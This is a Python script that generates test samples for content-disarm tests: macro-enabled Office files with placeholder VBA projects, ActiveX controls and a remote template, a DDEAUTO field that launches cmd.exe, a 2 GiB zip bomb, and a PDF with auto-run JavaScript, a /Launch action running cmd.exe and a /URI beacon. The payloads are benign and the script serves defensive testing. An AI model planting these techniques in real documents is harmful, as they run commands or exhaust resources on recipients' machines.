#!/usr/bin/env python3
"""Samples for the content-disarm tests (t_cdr_*.sh), made at test time.

    cdr-samples.py DIR [EICAR-FILE]

writes into DIR:
  stowage.xlsm        a workbook with xl/vbaProject.bin (macro content type + relationship),
                      an ActiveX control on the sheet and a ribbon with a macro callback
  letter.docm         a document with word/vbaProject.bin, word/vbaData.xml, an ActiveX
                      control, a remote template, "update fields on open" and a DDEAUTO
                      field
  slides.pptm         a presentation with ppt/vbaProject.bin and an ActiveX control
  plain.xlsx          a workbook without any of it (delivered as it is)
  eicar-macro.xlsm    the bytes of EICAR-FILE (made by lib.sh's make_eicar) as
                      xl/vbaProject.bin (malware: held back); only with EICAR-FILE
  bomb.xlsx           a zip bomb that looks like a workbook
  truncated.docx      a document cut off in the middle
  encrypted.xlsx      an "encrypted Office document": an OLE2 compound file holding
                      EncryptionInfo and EncryptedPackage streams, as Office writes them
  active.pdf          two pages of text, an /OpenAction JavaScript, an embedded file, a
                      link with a /Launch action and a page /AA with a /URI
  plain.pdf           the same text without any of it

No file in the repository carries EICAR: lib.sh makes it at test time."""
import io
import os
import struct
import sys
import zipfile

NS_CT = "http://schemas.openxmlformats.org/package/2006/content-types"
NS_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS = "http://schemas.microsoft.com/office/2006/relationships"
DATE = (2024, 6, 11, 9, 30, 0)


def rels(items):
    out = ['<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="%s">' % NS_REL]
    for rid, typ, target, *mode in items:
        extra = ' TargetMode="External"' if mode else ""
        out.append('<Relationship Id="%s" Type="%s" Target="%s"%s/>' % (rid, typ, target, extra))
    out.append("</Relationships>")
    return "".join(out)


def types(defaults, overrides):
    out = ['<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="%s">' % NS_CT]
    out += ['<Default Extension="%s" ContentType="%s"/>' % d for d in defaults]
    out += ['<Override PartName="%s" ContentType="%s"/>' % o for o in overrides]
    out.append("</Types>")
    return "".join(out)


def package(parts):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts:
            zi = zipfile.ZipInfo(name, DATE)
            zi.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(zi, data.encode() if isinstance(data, str) else data)
    return bio.getvalue()


DEFAULTS = [("rels", "application/vnd.openxmlformats-package.relationships+xml"),
            ("xml", "application/xml")]
VBA_DEFAULT = ("bin", "application/vnd.ms-office.vbaProject")
ACTIVEX = "application/vnd.ms-office.activeX+xml"
ACTIVEX_BIN = "application/vnd.ms-office.activeX"
CUSTOMUI = "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility"


def vba_bytes(payload=None):
    # Not a real VBA project (ClamAV would call it "macros" only if it were OLE2 with a
    # VBA dir stream): the sanitizer removes it by name, content type and relationship.
    return payload if payload is not None else b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"VBA" * 200


def activex_parts(prefix):
    return [("%s/activeX/activeX1.xml" % prefix,
             '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
             '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
             'xmlns:r="%s" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" '
             'ax:persistence="persistStreamInit" r:id="rId1"/>' % R),
            ("%s/activeX/_rels/activeX1.xml.rels" % prefix,
             rels([("rId1", MS + "/activeXControlBinary", "activeX1.bin")])),
            ("%s/activeX/activeX1.bin" % prefix, b"\x00\x01ActiveXBinary" * 16)]


def sheet(rows, controls=False):
    cells = []
    for r, row in enumerate(rows, 1):
        cs = []
        for c, v in enumerate(row):
            ref = "%s%d" % ("ABCDEFGH"[c], r)
            if isinstance(v, (int, float)):
                cs.append('<c r="%s"><v>%s</v></c>' % (ref, v))
            else:
                cs.append('<c r="%s" t="inlineStr"><is><t>%s</t></is></c>' % (ref, v))
        cells.append('<row r="%d">%s</row>' % (r, "".join(cs)))
    ctl = ('<controls><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
           '<mc:Choice Requires="x14"><control shapeId="1025" r:id="rId2" name="CommandButton1"/></mc:Choice>'
           '<mc:Fallback><control shapeId="1025" r:id="rId2" name="CommandButton1"/></mc:Fallback>'
           '</mc:AlternateContent></controls>') if controls else ""
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="%s">'
            '<sheetData>%s</sheetData>%s</worksheet>' % (R, "".join(cells), ctl))


ROWS = [["Container", "Bay", "Weight kg", "POD"],
        ["MSKU1234565", "010482", 24150, "JPNGO"],
        ["TGHU7654321", "010484", 18730.5, "CNSHA"],
        ["CAIU1112223", "020102", 30480, "SGSIN"]]


def xlsx(macro=True, vba=None, extras=True):
    main_ct = ("application/vnd.ms-excel.sheet.macroEnabled.main+xml" if macro else
               "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")
    defaults = DEFAULTS + ([VBA_DEFAULT] if macro else [])
    overrides = [("/xl/workbook.xml", main_ct),
                 ("/xl/worksheets/sheet1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"),
                 ("/xl/worksheets/sheet2.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml")]
    root = [("rId1", R + "/officeDocument", "xl/workbook.xml")]
    wb_rels = [("rId1", R + "/worksheet", "worksheets/sheet1.xml"),
               ("rId2", R + "/worksheet", "worksheets/sheet2.xml")]
    parts = []
    if macro:
        wb_rels.append(("rId3", MS + "/vbaProject", "vbaProject.bin"))
        parts.append(("xl/vbaProject.bin", vba_bytes(vba)))
    controls = macro and extras
    if controls:
        overrides.append(("/xl/activeX/activeX1.xml", ACTIVEX))
        overrides.append(("/xl/activeX/activeX1.bin", ACTIVEX_BIN))
        parts += activex_parts("xl")
        root.append(("rId2", CUSTOMUI, "customUI/customUI14.xml"))
        parts.append(("customUI/customUI14.xml",
                      '<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="Ribbon_Load">'
                      '<ribbon><tabs><tab id="t1" label="Stowage"><group id="g1" label="Macros">'
                      '<button id="b1" label="Run" onAction="RunMacro"/></group></tab></tabs></ribbon></customUI>'))
    sheet1_rels = [("rId1", R + "/printerSettings", "../printerSettings/printerSettings1.bin")]
    if controls:
        sheet1_rels.append(("rId2", R + "/control", "../activeX/activeX1.xml"))
    overrides.append(("/xl/printerSettings/printerSettings1.bin",
                      "application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings"))
    wb = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="%s">'
          '<workbookPr codeName="ThisWorkbook"%s/><sheets><sheet name="Loading list" sheetId="1" r:id="rId1"/>'
          '<sheet name="Notes" sheetId="2" r:id="rId2"/></sheets></workbook>'
          % (R, ' updateLinks="always"' if macro and extras else ""))
    head = [("[Content_Types].xml", types(defaults, overrides)),
            ("_rels/.rels", rels(root)),
            ("xl/workbook.xml", wb),
            ("xl/_rels/workbook.xml.rels", rels(wb_rels)),
            ("xl/worksheets/sheet1.xml", sheet(ROWS, controls)),
            ("xl/worksheets/_rels/sheet1.xml.rels", rels(sheet1_rels)),
            ("xl/worksheets/sheet2.xml", sheet([["Checked by", "chief officer"], ["Total", 73360.5]])),
            ("xl/printerSettings/printerSettings1.bin", b"\x00printer\x00" * 8)]
    return package(head + parts)


def docm():
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    overrides = [("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
                 ("/word/settings.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"),
                 ("/word/vbaData.xml", "application/vnd.ms-word.vbaData+xml"),
                 ("/word/activeX/activeX1.xml", ACTIVEX),
                 ("/word/activeX/activeX1.bin", ACTIVEX_BIN)]
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           '<w:document xmlns:w="%s" xmlns:r="%s"><w:body>'
           '<w:p><w:r><w:t>Notice of readiness: MV EXAMPLE STAR, voyage 042E</w:t></w:r></w:p>'
           '<w:p><w:r><w:object><w:control r:id="rId3" w:name="CheckBox1"/></w:object></w:r></w:p>'
           '<w:p><w:r><w:t>Berth 4, 0600 local time</w:t></w:r></w:p>'
           '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>'
           '<w:r><w:instrText xml:space="preserve">AUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" </w:instrText></w:r>'
           '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Draft 0600</w:t></w:r>'
           '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
           '</w:body></w:document>' % (w, R))
    settings = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                '<w:settings xmlns:w="%s" xmlns:r="%s"><w:updateFields w:val="true"/>'
                '<w:attachedTemplate r:id="rId1"/></w:settings>' % (w, R))
    return package([
        ("[Content_Types].xml", types(DEFAULTS + [VBA_DEFAULT], overrides)),
        ("_rels/.rels", rels([("rId1", R + "/officeDocument", "word/document.xml")])),
        ("word/document.xml", doc),
        ("word/_rels/document.xml.rels", rels([
            ("rId1", MS + "/vbaProject", "vbaProject.bin"),
            ("rId2", R + "/settings", "settings.xml"),
            ("rId3", R + "/control", "activeX/activeX1.xml")])),
        ("word/settings.xml", settings),
        ("word/_rels/settings.xml.rels", rels([
            ("rId1", R + "/attachedTemplate", "http://203.0.113.9/templates/remote.dotm", "External")])),
        ("word/vbaProject.bin", vba_bytes()),
        ("word/_rels/vbaProject.bin.rels", rels([("rId1", MS + "/wordVbaData", "vbaData.xml")])),
        ("word/vbaData.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                             '<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>'),
    ] + activex_parts("word"))


def pptm():
    p = "http://schemas.openxmlformats.org/presentationml/2006/main"
    a = "http://schemas.openxmlformats.org/drawingml/2006/main"
    overrides = [("/ppt/presentation.xml", "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"),
                 ("/ppt/slides/slide1.xml", "application/vnd.openxmlformats-officedocument.presentationml.slide+xml"),
                 ("/ppt/activeX/activeX1.xml", ACTIVEX),
                 ("/ppt/activeX/activeX1.bin", ACTIVEX_BIN)]
    pres = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<p:presentation xmlns:p="%s" xmlns:r="%s"><p:sldIdLst><p:sldId id="256" r:id="rId2"/></p:sldIdLst>'
            '</p:presentation>' % (p, R))
    slide = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
             '<p:sld xmlns:p="%s" xmlns:a="%s" xmlns:r="%s"><p:cSld><p:spTree>'
             '<p:sp><p:txBody><a:p><a:r><a:t>Terminal induction: safety zones</a:t></a:r></a:p></p:txBody></p:sp>'
             '</p:spTree><p:controls><p:control name="TextBox1" r:id="rId1" imgW="100" imgH="20"/></p:controls>'
             '</p:cSld></p:sld>' % (p, a, R))
    return package([
        ("[Content_Types].xml", types(DEFAULTS + [VBA_DEFAULT], overrides)),
        ("_rels/.rels", rels([("rId1", R + "/officeDocument", "ppt/presentation.xml")])),
        ("ppt/presentation.xml", pres),
        ("ppt/_rels/presentation.xml.rels", rels([
            ("rId1", MS + "/vbaProject", "vbaProject.bin"),
            ("rId2", R + "/slide", "slides/slide1.xml")])),
        ("ppt/slides/slide1.xml", slide),
        ("ppt/slides/_rels/slide1.xml.rels", rels([("rId1", R + "/control", "../activeX/activeX1.xml")])),
        ("ppt/vbaProject.bin", vba_bytes()),
    ] + activex_parts("ppt"))


def bomb():
    # [Content_Types].xml and a workbook, then 2 GiB of zeros in one part (~2 MB stored).
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", types(DEFAULTS, [("/xl/workbook.xml",
                   "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")]))
        z.writestr("_rels/.rels", rels([("rId1", R + "/officeDocument", "xl/workbook.xml")]))
        with z.open("xl/workbook.xml", "w", force_zip64=True) as f:
            chunk = b"\0" * (1 << 20)
            for _ in range(2048):
                f.write(chunk)
    return bio.getvalue()


def cfb(streams):
    """A minimal OLE2 compound file: 512-byte sectors, every stream >= 4096 bytes (so no
    mini stream), one FAT sector, one directory sector."""
    sec = 512
    data_secs = []
    entries = []
    for name, payload in streams:
        payload = payload + b"\0" * (-len(payload) % sec)
        start = len(data_secs)
        data_secs += [payload[i:i + sec] for i in range(0, len(payload), sec)]
        entries.append((name, start, len(payload)))
    nfat = 1
    fat_sector = len(data_secs)
    dir_sector = fat_sector + 1
    fat = []
    for name, start, size in entries:
        n = size // sec
        for i in range(n):
            fat.append(start + i + 1 if i + 1 < n else 0xFFFFFFFE)
    fat.append(0xFFFFFFFD)  # the FAT sector itself
    fat.append(0xFFFFFFFE)  # the directory: one sector
    fat += [0xFFFFFFFF] * (128 - len(fat))
    assert len(fat) == 128

    def dirent(name, typ, start, size, child=0xFFFFFFFF, right=0xFFFFFFFF):
        n = (name + "\0").encode("utf-16-le")
        # name, its length, type, colour; left, right, child; CLSID, state bits,
        # creation and modification times; first sector, size
        return (n.ljust(64, b"\0") + struct.pack("<HBB", len(n), typ, 1) +
                struct.pack("<III", 0xFFFFFFFF, right, child) + b"\0" * 36 +
                struct.pack("<IQ", start, size))
    d = [dirent("Root Entry", 5, 0xFFFFFFFE, 0, child=1)]
    for i, (name, start, size) in enumerate(entries):
        right = i + 2 if i + 1 < len(entries) else 0xFFFFFFFF
        d.append(dirent(name, 2, start, size, right=right))
    d += [b"\0" * 128] * (4 - len(d))
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHH", 0x3E, 3, 0xFFFE, 9) +
              struct.pack("<H", 6) + b"\0" * 6 + struct.pack("<IIIIIIIII", 0, nfat, dir_sector, 0, 4096,
                                                              0xFFFFFFFE, 0, 0xFFFFFFFE, 0))
    difat = [fat_sector] + [0xFFFFFFFF] * 108
    header += struct.pack("<109I", *difat)
    assert len(header) == 512
    return header + b"".join(data_secs) + struct.pack("<128I", *fat) + b"".join(d)


def encrypted():
    info = struct.pack("<HHI", 4, 4, 0x40) + b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' \
        b'<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption"/>'
    info = info.ljust(4096, b"\0")
    package_bytes = struct.pack("<Q", 8192) + bytes((i * 73 + 11) & 0xFF for i in range(8192))
    return cfb([("EncryptionInfo", info), ("EncryptedPackage", package_bytes)])


# ---- PDF ---------------------------------------------------------------------------------

def pdf(objects):
    """objects: list of bytes (object bodies, numbered from 1); object 1 is the catalog."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def stream(data, extra=b""):
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


PAGE_TEXT = [b"Stowage instructions for MV EXAMPLE STAR voyage 042E",
             b"Discharge at Nagoya berth 4: 312 containers, 18 reefers"]


def pdf_pages(active):
    content1 = b"BT /F1 12 Tf 72 720 Td (" + PAGE_TEXT[0] + b") Tj ET"
    content2 = b"BT /F1 12 Tf 72 720 Td (" + PAGE_TEXT[1] + b") Tj ET"
    catalog = b"<< /Type /Catalog /Pages 2 0 R"
    if active:
        catalog += b" /OpenAction 8 0 R /Names << /EmbeddedFiles 9 0 R /JavaScript 12 0 R >>"
    catalog += b" >>"
    page1 = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 6 0 R >> >>"
    if active:
        page1 += b" /Annots [7 0 R] /AA << /O << /S /URI /URI (http://203.0.113.9/beacon) >> >>"
    page1 += b" >>"
    objs = [catalog,
            b"<< /Type /Pages /Kids [3 0 R 5 0 R] /Count 2 >>",
            page1,
            stream(content1),
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 13 0 R /Resources << /Font << /F1 6 0 R >> >> >>",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    if active:
        objs += [
            b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /Border [0 0 0] "
            b"/A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>",
            b"<< /Type /Action /S /JavaScript /JS (app.alert\\('opened'\\);) >>",
            b"<< /Names [(manifest.txt) 10 0 R] >>",
            b"<< /Type /Filespec /F (manifest.txt) /UF (manifest.txt) /EF << /F 11 0 R >> >>",
            stream(b"embedded payload: not for the terminal\n", b"/Type /EmbeddedFile "),
            b"<< /Names [(init) << /S /JavaScript /JS (this.print\\(\\);) >>] >>",
            stream(content2)]
    else:
        objs += [b"null", b"null", b"null", b"null", b"null", b"null", stream(content2)]
    return pdf(objs)


def main():
    d = sys.argv[1]
    os.makedirs(d, exist_ok=True)
    files = {
        "stowage.xlsm": xlsx(macro=True),
        "plain.xlsx": xlsx(macro=False),
        "letter.docm": docm(),
        "slides.pptm": pptm(),
        "bomb.xlsx": bomb(),
        "encrypted.xlsx": encrypted(),
        "active.pdf": pdf_pages(True),
        "plain.pdf": pdf_pages(False),
    }
    if len(sys.argv) > 2:
        with open(sys.argv[2], "rb") as f:
            files["eicar-macro.xlsm"] = xlsx(macro=True, vba=f.read(), extras=False)
    doc = docm()
    files["truncated.docx"] = doc[: len(doc) * 2 // 3]
    for name, data in files.items():
        with open(os.path.join(d, name), "wb") as f:
            f.write(data)


if __name__ == "__main__":
    main()
